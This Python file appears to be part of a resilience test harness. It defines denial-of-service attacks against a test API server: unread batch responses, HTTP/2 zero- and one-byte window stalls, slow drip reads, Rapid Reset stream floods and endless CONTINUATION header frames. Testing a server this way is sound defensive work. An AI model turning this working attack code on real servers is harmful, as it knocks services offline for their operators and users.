"""Items 4, and other misuse of streams: large answers that nobody takes."""
import itertools
import json

import http2
from engine import Peer

from .attack import Attack, Streams, Unread, http1
from .compression import GZIP

BATCH = json.dumps({"symbols": (["AAPL", "MSFT", "IBM", "KO"] * 125)}).encode()
JSON = ("content-type", "application/json")


class BatchesUnread(Attack):
    name, item, key = "batches-h1", "4a", "viewer"
    about = "a viewer's batches of 500 symbols over HTTP/1, four on a connection, answers not read"

    def peer(self, counts, number):
        return Unread(counts, number, http1("POST", "/api/predictions/batch", [*self.headers(), JSON], BATCH))


class BatchStreams(Attack):
    name, item, is_open = "batches-h2", "4b", True
    settings = '[server]\nallowed_hosts = ["closecast.test"]\n'
    about = "an open server: batches of 500 symbols over HTTP/2 with windows of 0 bytes"

    def peer(self, counts, number):
        return Streams(counts, number, [http2.block("POST", "/api/predictions/batch", [JSON])], body=BATCH)


class ViewerBatchStreams(Attack):
    name, item, key = "batches-h2-key", "4", "viewer"
    about = "a viewer's batches over HTTP/2 with windows of 0 bytes"

    def peer(self, counts, number):
        return Streams(counts, number, [http2.block("POST", "/api/predictions/batch", [*self.headers(), JSON])], body=BATCH)


class ViewerReads(Attack):
    name, item, key = "reads-h2-key", "4", "viewer"
    about = "a viewer's large reads (prices of years, comparisons, figures, forecasts) over HTTP/2 with windows of 0 bytes"
    paths = ["/api/stocks/AAPL?days=5000", "/metrics", "/api/predictions/AAPL", "/api/stocks/compare?symbols=AAPL,MSFT,IBM,KO", "/api/stocks/MSFT?days=5000"]

    def peer(self, counts, number):
        return Streams(counts, number, [http2.block("GET", path, self.headers()) for path in self.paths])


class TinyWindows(Attack):
    name, item = "tiny-windows", "more"
    about = "no key: HTTP/2 with windows of 1 byte, given anew after each byte: a frame for every byte of /openapi.json"

    class Peer(Streams):
        def data(self, stream, payload):
            return http2.window_update(stream, 1) + http2.window_update(0, max(1, len(payload)))

    def peer(self, counts, number):
        return self.Peer(counts, number, [http2.block("GET", "/openapi.json")], window=1)


class Drip(Attack):
    name, item = "drip-windows", "more"
    about = "no key: HTTP/2, each stream takes one byte in five seconds, so that none stands still"

    class Peer(Streams):
        every = 5.0

        def tick(self):
            return b"".join(http2.window_update(stream, 1) for stream in itertools.islice(self.open, 300))

    def peer(self, counts, number):
        return self.Peer(counts, number, [http2.block("GET", "/openapi.json", [GZIP])], window=0)


class RapidReset(Attack):
    name, item = "rapid-reset", "more"
    about = "no key: HTTP/2 streams opened and reset at once, as fast as they are taken"

    class Peer(Peer):
        block = http2.block("GET", "/openapi.json", [GZIP])

        def __init__(self, counts, number):
            super().__init__(counts, number)
            self.next, self.frames = 1, http2.Frames()

        def opened(self):
            return http2.PREFACE + http2.settings() + self.sent()

        def sent(self):
            out = []
            for _ in range(100):
                out += [http2.request(self.next, self.block), http2.reset(self.next)]
                self.next += 2
            self.counts["streams"] += 100
            return b"".join(out)

        def received(self, data):
            for kind, *_ in self.frames.feed(data):
                if kind == http2.GOAWAY:
                    self.counts["told to go away"] += 1
            return b""

    def peer(self, counts, number):
        return self.Peer(counts, number)


class HeadersWithoutEnd(Attack):
    name, item = "continuations", "more"
    about = "no key: HTTP/2 headers that go on in CONTINUATION frames without end"

    class Peer(Peer):
        piece = http2.frame(http2.CONTINUATION, 0, 1, b"\x00\x04name" + b"\x7f\xe1\x7e" + b"a" * 16352)

        def opened(self):
            return http2.PREFACE + http2.settings() + http2.frame(http2.HEADERS, 0, 1, http2.block("GET", "/livez")) + self.piece

        def sent(self):
            return self.piece

    def peer(self, counts, number):
        return self.Peer(counts, number)


ATTACKS = [BatchesUnread, BatchStreams, ViewerBatchStreams, ViewerReads, TinyWindows, Drip, RapidReset, HeadersWithoutEnd]
